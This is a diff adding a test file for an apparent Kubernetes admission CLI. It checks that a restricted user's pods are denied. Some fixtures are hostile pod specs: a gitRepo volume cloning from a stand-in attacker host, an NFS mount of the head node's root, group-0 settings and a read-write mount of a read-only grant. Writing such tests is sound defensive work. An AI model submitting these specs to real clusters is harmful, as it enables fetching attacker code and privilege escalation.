@@ -1,0 +1,57 @@
+// Session 6 permissions probe, on the user's path (`podgate admit --users`): what the user's PSP refused
+// and no per-user policy checked — other volume types, other groups, read-only grants — is denied.
+import assert from 'node:assert/strict';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { runCli } from '../helpers/cli.js';
+
+const dir = mkdtempSync(join(tmpdir(), 'podgate-confine-'));
+const users = join(dir, 'users.yaml');
+writeFileSync(
+  users,
+  `apiVersion: podgate.io/v1
+kind: PermissionUser
+metadata: {name: bob}
+spec:
+  uid: 1002
+  gid: 1002
+  releaseId: bob1234
+  hostPaths: [{pathPrefix: /data/shared, readOnly: true}, {pathPrefix: /home/bob}]
+`,
+);
+
+function review(spec: Record<string, unknown>): string {
+  const f = join(dir, `review-${Math.random().toString(36).slice(2)}.json`);
+  const object = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'bob-restricted' }, spec };
+  const request = { uid: '1', kind: { group: '', version: 'v1', kind: 'Pod' }, resource: { group: '', version: 'v1', resource: 'pods' }, namespace: 'bob-restricted', operation: 'CREATE', userInfo: { username: 'bob', groups: ['system:authenticated'] }, object };
+  writeFileSync(f, JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request }));
+  return f;
+}
+
+const container = (securityContext: Record<string, unknown> = {}, volumeMounts: unknown[] = []) => ({ name: 'c', image: 'busybox', securityContext: { allowPrivilegeEscalation: false, ...securityContext }, volumeMounts });
+
+const cases: { name: string; spec: Record<string, unknown>; denied: RegExp | undefined }[] = [
+  { name: 'a gitRepo volume', spec: { securityContext: { runAsUser: 1002 }, containers: [container({}, [{ name: 'g', mountPath: '/g' }])], volumes: [{ name: 'g', gitRepo: { repository: 'https://attacker.example/hooks.git' } }] }, denied: /volume-types: 'Only the following types of volumes may be used/ },
+  { name: 'an nfs volume of the head node', spec: { securityContext: { runAsUser: 1002 }, containers: [container()], volumes: [{ name: 'n', nfs: { server: 'headnode', path: '/' } }] }, denied: /volume-types/ },
+  { name: 'fsGroup 0', spec: { securityContext: { runAsUser: 1002, fsGroup: 0 }, containers: [container()] }, denied: /groups: 'validation error: Pods of bob may only use gid 1002/ },
+  { name: 'runAsGroup 0 in a container', spec: { securityContext: { runAsUser: 1002 }, containers: [container({ runAsGroup: 0 })] }, denied: /groups:/ },
+  { name: 'a read-only grant mounted read-write', spec: { securityContext: { runAsUser: 1002 }, containers: [container({}, [{ name: 's', mountPath: '/s' }])], volumes: [{ name: 's', hostPath: { path: '/data/shared' } }] }, denied: /read-only-host-paths: 'validation failure: hostPath volumes under \[\/data\/shared\]\n\s+must be mounted read-only/ },
+  { name: 'a read-only grant mounted read-only, home read-write', spec: { securityContext: { runAsUser: 1002 }, containers: [container({}, [{ name: 's', mountPath: '/s', readOnly: true }, { name: 'h', mountPath: '/h' }])], volumes: [{ name: 's', hostPath: { path: '/data/shared' } }, { name: 'h', hostPath: { path: '/home/bob' } }] }, denied: undefined },
+];
+
+for (const c of cases) {
+  test(`admit --users: ${c.name} is ${c.denied ? 'denied' : 'allowed'}`, async () => {
+    const r = await runCli(['-o', 'json', 'admit', '--users', users, '--request', review(c.spec)]);
+    const response = (JSON.parse(r.stdout) as { response: { allowed: boolean; status?: { message: string } } }).response;
+    if (!c.denied) {
+      assert.equal(response.allowed, true, response.status?.message);
+      assert.equal(r.code, 0);
+      return;
+    }
+    assert.equal(response.allowed, false);
+    assert.equal(r.code, 1);
+    assert.match(response.status?.message ?? '', c.denied);
+  });
+}
